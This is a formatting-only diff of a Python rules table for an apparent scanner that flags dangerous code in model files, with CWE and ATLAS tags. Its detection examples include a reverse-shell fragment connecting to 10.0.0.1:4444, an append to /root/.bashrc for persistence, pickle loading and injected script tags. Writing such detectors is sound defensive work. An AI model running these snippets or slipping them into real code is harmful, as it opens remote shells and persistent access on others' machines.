@@ -27,13 +27,9 @@ RULES: tuple[Rule, ...] = (
         Answer.UNKNOWN,
         Severity.MEDIUM,
         title="Code that runs commands",
-        what=(
-            "The code runs a command of the operating system. Models do not need that."
-        ),
+        what=("The code runs a command of the operating system. Models do not need that."),
         example="`subprocess.run(['nvidia-smi'])`",
-        fix=(
-            "Read what it runs. Remove it, or allow the file if the command is harmless."
-        ),
+        fix=("Read what it runs. Remove it, or allow the file if the command is harmless."),
         cwe=(78,),
         atlas=("AML.T0011",),
     ),
@@ -72,9 +68,7 @@ RULES: tuple[Rule, ...] = (
             "something away."
         ),
         example="`s.connect(('10.0.0.1', 4444)); os.dup2(s.fileno(), 0)`",
-        fix=(
-            "Do not run it. If it ran, change all passwords and keys of that machine."
-        ),
+        fix=("Do not run it. If it ran, change all passwords and keys of that machine."),
         cwe=(506, 200),
         atlas=("AML.T0025",),
     ),
@@ -122,10 +116,7 @@ RULES: tuple[Rule, ...] = (
         Answer.FAIL,
         Severity.HIGH,
         title="Code that makes itself permanent",
-        what=(
-            "The code writes a file that is run when a shell, Python or the machine "
-            "starts."
-        ),
+        what=("The code writes a file that is run when a shell, Python or the machine starts."),
         example="`open('/root/.bashrc', 'a')`",
         fix="Do not run it. If it ran, look into that file.",
         cwe=(506,),
@@ -190,8 +181,7 @@ RULES: tuple[Rule, ...] = (
         Severity.MEDIUM,
         title="Code that unpickles",
         what=(
-            "The code loads a pickle, or YAML that builds any object: what the file says "
-            "is run."
+            "The code loads a pickle, or YAML that builds any object: what the file says is run."
         ),
         example="`pickle.load(open(path, 'rb'))`",
         fix="Scan the files that it loads, or use safetensors or JSON.",
@@ -203,10 +193,7 @@ RULES: tuple[Rule, ...] = (
         Answer.PASS,
         Severity.LOW,
         title="Code that loads models",
-        what=(
-            "The code loads files of weights, or trusts the code of a model that it is "
-            "given."
-        ),
+        what=("The code loads files of weights, or trusts the code of a model that it is given."),
         example="`torch.load(path)`",
         fix="Scan the files that it loads; use `weights_only=True`.",
         cwe=(502,),
@@ -267,10 +254,7 @@ RULES: tuple[Rule, ...] = (
         Answer.UNKNOWN,
         Severity.MEDIUM,
         title="Markup or script that may act",
-        what=(
-            "The page or picture holds scripts, or the script does what a model does not "
-            "need."
-        ),
+        what=("The page or picture holds scripts, or the script does what a model does not need."),
         example="`<script>` in an SVG",
         fix="Open it in a sandbox, or remove the scripts.",
         cwe=(79,),
@@ -295,10 +279,7 @@ RULES: tuple[Rule, ...] = (
         Answer.UNKNOWN,
         Severity.MEDIUM,
         title="Notebook output that runs scripts",
-        what=(
-            "A stored output holds JavaScript, which runs when a trusted notebook is "
-            "opened."
-        ),
+        what=("A stored output holds JavaScript, which runs when a trusted notebook is opened."),
         example="`<script src=...>` in `text/html`",
         fix="Clear the outputs.",
         cwe=(79,),
@@ -398,9 +379,7 @@ RULES: tuple[Rule, ...] = (
         Answer.UNKNOWN,
         Severity.MEDIUM,
         title="Template that writes links or markup",
-        what=(
-            "The template puts a link or active markup into every prompt or answer."
-        ),
+        what=("The template puts a link or active markup into every prompt or answer."),
         example="`<script src=...>` in a chat template",
         fix="Compare it with the template of the original model.",
         cwe=(506,),
